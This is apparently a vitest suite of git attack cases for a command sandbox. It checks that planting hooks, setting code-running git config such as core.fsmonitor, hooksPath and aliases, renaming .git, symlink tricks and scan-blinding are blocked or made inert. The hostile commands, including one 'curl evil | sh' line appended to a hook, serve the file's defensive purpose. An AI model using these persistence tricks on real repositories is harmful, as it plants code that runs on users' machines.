import { execFileSync } from "node:child_process";
import { chmodSync, lstatSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { expect } from "vitest";
import { createLocalSandbox } from "../../local-sandbox.js";
import { MADE_BY_COMMAND } from "../../made-by-commands/moved-aside.js";
import { createCommandWrapper } from "../create-command-wrapper.js";
import { createHostFactsCache } from "../host-facts.js";
import { attempt, takeMovedAside, unwrittenByGit, verdicts } from "./fixture.js";
import type { AttackCases } from "./suite.js";

/**
 * The cases of `attacks-git.test.ts`, declared over any fixture: through bubblewrap there, and
 * through the Docker backend over a bound workspace in `docker/docker-attacks.test.ts`.
 */
export const gitAttacks: AttackCases = (fixture, it) => {
  it("cannot plant a hook in the gitdir", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit"),
        attempt("cp .git/hooks/pre-commit.sample .git/hooks/post-checkout"),
        attempt("chmod +x .git/hooks/pre-commit.sample"),
        attempt("rm .git/hooks/pre-commit.sample"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot rename .git away and plant a new one", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt('/usr/bin/python3 -c \'import os; os.rename(".git", ".git-old")\''),
        attempt("mv .git .git-old"),
        attempt("rm -rf .git"),
        attempt("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"),
        attempt("git init -q ."),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(5).fill("BLOCKED"));
    const after = await fixture.state();
    // With git writes `rm -rf .git` removes what git writes (the index, objects, refs, logs); the
    // folder and what git runs programs through stay as they were.
    expect(unwrittenByGit(fixture, after)).toEqual(unwrittenByGit(fixture, before));
    const index = path.join(fixture.root, ".git", "index");
    expect(Object.keys(before)).toContain(index);
    if (fixture.gitWrites) expect(Object.keys(after)).not.toContain(index);
    else expect(after).toEqual(before);
  });

  it("cannot set git config keys that run code (core.fsmonitor, core.hooksPath, aliases)", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("git config core.fsmonitor 'touch /tmp/pwned; false'"),
        attempt("git config core.hooksPath hooks"),
        attempt("printf '[core]\\n\\thooksPath = hooks\\n' >> .git/config"),
        attempt("git config alias.st '!touch /tmp/pwned'"),
        attempt("git config --local core.sshCommand 'touch /tmp/pwned'"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(5).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it(
    fixture.gitWrites
      ? "commits and rewrites refs with git writes, leaving what git runs programs through as it was"
      : "cannot commit or rewrite refs (the gitdir is read-only) yet can read history",
    async () => {
      const before = await fixture.state();
      const { stdout } = await fixture.run(
        [
          "git log --format=%s",
          attempt("git -c user.name=x -c user.email=x@x commit -q --allow-empty -m evil"),
          attempt("git update-ref refs/heads/main HEAD"),
        ].join("\n"),
      );
      expect(stdout.split("\n")[0]).toBe("initial");
      if (!fixture.gitWrites) {
        expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
        expect(await fixture.state()).toEqual(before);
        return;
      }
      expect(verdicts(stdout)).toEqual(["ESCAPED", "ESCAPED"]);
      // The user's git sees the commit and the ref; config and hooks are as they were.
      const log = (ref: string) =>
        execFileSync("git", ["log", "--format=%s", ref], { cwd: fixture.root, encoding: "utf8" });
      expect(log("HEAD")).toBe("evil\ninitial\n");
      expect(log("main")).toBe("evil\ninitial\n");
      expect(unwrittenByGit(fixture, await fixture.state())).toEqual(
        unwrittenByGit(fixture, before),
      );
    },
  );

  it("cannot write a nested repository's .git, rename it, or rename its parent folders", async () => {
    const before = await fixture.state();
    const rename = (from: string, to: string) =>
      attempt(`/usr/bin/python3 -c 'import os; os.rename("${from}", "${to}")'`);
    const { stdout } = await fixture.run(
      [
        attempt("echo evil > vendor/lib/.git/hooks/post-checkout"),
        attempt("git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned; false'"),
        rename("vendor/lib/.git", "vendor/lib/git-old"),
        rename("vendor/lib", "vendor/lib-old"),
        rename("vendor", "vendor-old"),
        attempt("rm -rf vendor/lib/.git"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
    // With git writes, `rm -rf` removes what git writes in vendor/lib/.git, and only that.
    expect(unwrittenByGit(fixture, await fixture.state())).toEqual(unwrittenByGit(fixture, before));
  });

  it("protects the gitdir a .git file points to, and the .git file itself", async () => {
    // A worktree-style checkout: the workspace's .git is a file naming a gitdir inside the workspace.
    execFileSync("git", [
      "init",
      "-q",
      "--separate-git-dir",
      path.join(fixture.root, "sub", "gitdir-store"),
      path.join(fixture.root, "sub", "checkout"),
    ]);
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("echo evil > sub/gitdir-store/hooks/pre-commit"),
        attempt("echo 'gitdir: /tmp/evil' > sub/checkout/.git"),
        attempt("rm sub/checkout/.git"),
        attempt("git -C sub/checkout config core.fsmonitor 'touch /tmp/pwned; false'"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("protects the hooks folder that core.hooksPath names inside the workspace", async () => {
    execFileSync("git", ["config", "core.hooksPath", ".husky"], { cwd: fixture.root });
    await mkdir(path.join(fixture.root, ".husky"));
    await writeFile(path.join(fixture.root, ".husky", "pre-commit"), "npm test\n");
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("echo 'curl evil | sh' >> .husky/pre-commit"),
        attempt("echo evil > .husky/post-checkout"),
        attempt("mv .husky husky-old"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(3).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  for (const [label, recentChangeMs] of [
    ["just now", undefined],
    ["long enough ago that only the stamps tell", 0],
  ] as const) {
    it(`protects on the next call a nested .git made between calls (changes made ${label})`, async () => {
      const wrapper = createCommandWrapper({
        hostFactsCache: createHostFactsCache(
          recentChangeMs === undefined ? {} : { recentChangeMs },
        ),
        allowGitWrites: fixture.gitWrites,
      });
      const settle = () => new Promise((resolve) => setTimeout(resolve, 25));
      // The first call learns the tree; then a command makes a repository in a new folder (a
      // known gap: that one call can still write it) and the host makes one in an old folder.
      await fixture.run("true", { wrapper });
      await settle();
      const first = await fixture.run(
        "git init -q made/by/command && echo ok > made/by/command/.git/info/note && echo made",
        { wrapper },
      );
      expect(first.stdout).toBe("made\n");
      execFileSync("git", ["init", "-q", path.join(fixture.root, "src", "by-host")]);
      await settle();
      const before = await fixture.state();
      const rename = (from: string, to: string) =>
        attempt(`/usr/bin/python3 -c 'import os; os.rename("${from}", "${to}")'`);
      const { stdout } = await fixture.run(
        [
          attempt("echo evil > made/by/command/.git/hooks/post-checkout"),
          attempt("git -C made/by/command config core.fsmonitor 'touch /tmp/pwned; false'"),
          rename("made/by", "made/by-old"),
          attempt("echo evil > src/by-host/.git/hooks/pre-commit"),
          attempt("rm -rf src/by-host/.git"),
          rename("src", "src-old"),
        ].join("\n"),
        { wrapper },
      );
      expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
      // With git writes, `rm -rf` removes what git writes in src/by-host/.git, and only that.
      expect(unwrittenByGit(fixture, await fixture.state())).toEqual(
        unwrittenByGit(fixture, before),
      );
    });
  }

  it("protects the hooks folder named where git finds it: an included file, the user's git config", async () => {
    // The repository includes a shared file that names the hooks folder; the user's own git
    // config names another, relative to every work tree.
    await writeFile(
      path.join(fixture.root, ".gitconfig.shared"),
      "[core]\n\thooksPath = .githooks\n",
    );
    execFileSync("git", ["config", "include.path", "../.gitconfig.shared"], { cwd: fixture.root });
    const home = await mkdtemp(path.join(os.tmpdir(), "pleach-home-"));
    await writeFile(path.join(home, ".gitconfig"), "[core]\n\thooksPath = .user-hooks\n");
    const hostEnvironment = { ...process.env, HOME: home };
    try {
      const before = await fixture.state();
      const { stdout } = await fixture.run(
        [
          "mkdir -p .githooks && echo evil > .githooks/pre-commit",
          "mkdir -p .user-hooks && echo evil > .user-hooks/pre-commit",
          attempt("echo '[core] fsmonitor = evil' >> .gitconfig.shared"),
        ].join("\n"),
        { hostEnvironment },
      );
      expect(verdicts(stdout)).toEqual(["BLOCKED"]);
      // Missing, they could be made; they are moved aside once the command ends.
      expect(await takeMovedAside(fixture.root)).toEqual([
        `.githooks${MADE_BY_COMMAND}`,
        `.user-hooks${MADE_BY_COMMAND}`,
      ]);
      expect(await fixture.state()).toEqual(before);
      const client = await createLocalSandbox({
        root: fixture.root,
        commandWrapper: createCommandWrapper({
          hostEnvironment,
          allowGitWrites: fixture.gitWrites,
        }),
      });
      for (const target of [".githooks/pre-commit", ".user-hooks/pre-commit"]) {
        await expect(client.writeFile(target, "evil")).rejects.toMatchObject({
          code: "PROTECTED_PATH",
          message: expect.stringContaining("core.hooksPath"),
        });
      }
      expect(await fixture.state()).toEqual(before);
    } finally {
      await rm(home, { recursive: true, force: true });
    }
  });

  it("refuses workspace-write commands while a link lies on the way to git's machinery", async () => {
    // The hooks folder through a link, and a nested repository whose gitdir goes through one:
    // a command could re-point either link at a folder of its own.
    await mkdir(path.join(fixture.root, "tools", "hooks"), { recursive: true });
    await symlink("tools/hooks", path.join(fixture.root, ".githooks"));
    execFileSync("git", ["config", "core.hooksPath", ".githooks"], { cwd: fixture.root });
    await expect(fixture.run("true")).rejects.toMatchObject({
      code: "PROTECTED_PATH",
      message: expect.stringContaining(".githooks"),
    });
    execFileSync("git", ["config", "--unset", "core.hooksPath"], { cwd: fixture.root });
    await mkdir(path.join(fixture.root, "store", "real.git"), { recursive: true });
    await symlink("store", path.join(fixture.root, "linkdir"));
    await mkdir(path.join(fixture.root, "sub"));
    await writeFile(path.join(fixture.root, "sub", ".git"), "gitdir: ../linkdir/real.git\n");
    await expect(fixture.run("true")).rejects.toMatchObject({
      code: "PROTECTED_PATH",
      message: expect.stringContaining("linkdir"),
    });
    // Read-only commands still run: nothing is writable there.
    expect((await fixture.run("echo ok", { mode: "read-only" })).stdout).toBe("ok\n");
  });

  it("cannot blind the scan with a folder it cannot list (chmod 000 above a nested repository)", async () => {
    const wrapper = createCommandWrapper({ allowGitWrites: fixture.gitWrites });
    const vendor = path.join(fixture.root, "vendor");
    const before = await fixture.state();
    const hidden = await fixture.run("chmod 000 vendor && echo hidden", { wrapper });
    expect(hidden.stdout).toBe("hidden\n");
    // Unprivileged, the next scan cannot list vendor: it is protected whole, so its mode cannot be
    // restored to plant a hook below it. Root lists it anyway, and its .git stays protected.
    const { stdout } = await fixture.run(
      [
        "chmod 755 vendor 2>/dev/null",
        attempt("echo evil > vendor/lib/.git/hooks/post-checkout"),
        attempt("git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned; false'"),
        attempt("rm -rf vendor/lib/.git"),
        "chmod 000 vendor 2>/dev/null; true",
      ].join("\n"),
      { wrapper },
    );
    expect(verdicts(stdout)).toEqual(Array(3).fill("BLOCKED"));
    chmodSync(vendor, 0o755);
    // With git writes (as root, who lists vendor), `rm -rf` removes what git writes there.
    expect(unwrittenByGit(fixture, await fixture.state())).toEqual(unwrittenByGit(fixture, before));
  });

  it("refuses a workspace past the folder limit rather than protecting it in part", async () => {
    const wrapper = createCommandWrapper({
      maxDirectories: 300,
      allowGitWrites: fixture.gitWrites,
    });
    const before = await fixture.state([]);
    // A command makes more folders than the scan covers, then a repository past them.
    const flood = await fixture.run("mkdir -p flood/d{1..400} && echo made", { wrapper });
    expect(flood.stdout).toBe("made\n");
    await expect(
      fixture.run("echo evil > vendor/lib/.git/hooks/post-checkout", { wrapper }),
    ).rejects.toMatchObject({ code: "TOO_LARGE", message: expect.stringContaining("300 folders") });
    const client = await createLocalSandbox({ root: fixture.root, commandWrapper: wrapper });
    await expect(client.writeFile("vendor/lib/planted.txt", "x")).rejects.toMatchObject({
      code: "TOO_LARGE",
    });
    // Nothing is writable there, so read-only commands still run.
    expect((await fixture.run("ls flood | wc -l", { wrapper, mode: "read-only" })).stdout).toBe(
      "400\n",
    );
    execFileSync("rm", ["-rf", path.join(fixture.root, "flood")]);
    expect(await fixture.state()).toEqual(before);
  });

  it("makes inert a .git a command makes at the root of a workspace that has none", async () => {
    execFileSync("rm", ["-rf", path.join(fixture.root, ".git")]);
    const marker = path.join(fixture.outside, "root-repository-ran");
    await fixture.run(
      [
        "git init -q .",
        `git config core.fsmonitor 'touch ${marker}; false'`,
        `printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/post-checkout`,
        "chmod +x .git/hooks/post-checkout",
      ].join("\n"),
    );
    // Host git uses the repository as the user would: nothing of the command's runs.
    execFileSync("git", ["status", "--porcelain"], { cwd: fixture.root, stdio: "ignore" });
    execFileSync(
      "git",
      ["-c", "user.name=u", "-c", "user.email=u@e", "commit", "-q", "--allow-empty", "-m", "x"],
      {
        cwd: fixture.root,
        stdio: "ignore",
      },
    );
    execFileSync("git", ["checkout", "-q", "-b", "next"], { cwd: fixture.root, stdio: "ignore" });
    expect(lstatSync(marker, { throwIfNoEntry: false })).toBeUndefined();
    expect(readFileSync(path.join(fixture.root, ".git/config"), "utf8")).not.toContain("fsmonitor");
  });
};
